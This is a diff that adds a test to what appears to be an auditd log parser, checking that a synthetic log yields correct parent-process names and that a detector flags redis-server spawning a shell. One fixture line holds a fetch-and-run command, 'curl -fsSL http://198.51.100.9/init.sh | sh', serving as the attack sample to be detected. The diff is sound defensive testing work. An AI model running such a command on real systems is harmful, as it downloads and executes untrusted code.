@@ -1,7 +1,8 @@
 import { test } from "node:test";
 import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
-import { parseFileWith, parseWith, sharedFixture, sniffWith } from "../../../test-helpers/index.js";
+import { parseFileWith, parseWith, runDetector, sharedFixture, sniffWith } from "../../../test-helpers/index.js";
+import { entryVectorDetector } from "../../../detect/detectors/host/entry-vector.js";
 import { auditdSource, MAX_PENDING_EVENTS } from "./source.js";
 import { decodeText, parseAuditLine } from "./record.js";
 import { decodeSockaddr } from "./sockaddr.js";
@@ -244,4 +245,26 @@ test("auditd: sniffed from the first records; ps output and JSON are not audit l
   assert.ok(await sniffWith(auditdSource, MINER_LOG) >= 0.9);
   assert.equal(await sniffWith(auditdSource, "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n"), 0);
   assert.equal(await sniffWith(auditdSource, '{"type":"SYSCALL"}\n'), 0);
+});
+
+test("auditd: an exec names its parent when the parent's records came earlier (redis-server → sh -c 'curl | sh')", async () => {
+  const log = [
+    'type=SYSCALL msg=audit(1795038000.000:100): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=812 auid=4294967295 uid=999 gid=999 euid=999 suid=999 fsuid=999 egid=999 sgid=999 fsgid=999 tty=(none) ses=4294967295 comm="redis-server" exe="/usr/bin/redis-server" key="exec"',
+    'type=EXECVE msg=audit(1795038000.000:100): argc=2 a0="/usr/bin/redis-server" a1="127.0.0.1:6379"',
+    "type=EOE msg=audit(1795038000.000:100): ",
+    'type=SYSCALL msg=audit(1795038060.000:200): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=812 pid=9001 auid=4294967295 uid=999 gid=999 euid=999 suid=999 fsuid=999 egid=999 sgid=999 fsgid=999 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="exec"',
+    `type=EXECVE msg=audit(1795038060.000:200): argc=3 a0="sh" a1="-c" a2=${hex("curl -fsSL http://198.51.100.9/init.sh | sh")}`,
+    "type=EOE msg=audit(1795038060.000:200): ",
+    'type=SYSCALL msg=audit(1795038061.000:300): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=4444 pid=9002 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=2 comm="ls" exe="/usr/bin/ls" key="exec"',
+    'type=EXECVE msg=audit(1795038061.000:300): argc=1 a0="ls"',
+    "type=EOE msg=audit(1795038061.000:300): ",
+  ].join("\n");
+  const { events } = await parseWith(auditdSource, log);
+  assert.equal(events[0]!["process.parent.name"], undefined, "pid 1 never appeared");
+  assert.equal(events[1]!["process.parent.name"], "redis-server");
+  assert.equal(events[1]!["process.parent.executable"], "/usr/bin/redis-server");
+  assert.equal(events[2]!["process.parent.name"], undefined);
+  const findings = runDetector(entryVectorDetector, events);
+  assert.equal(findings.length, 1, "a service that runs a downloaded script is an entry vector");
+  assert.match(findings[0]!.title, /^redis-server ran a downloaded script/);
 });
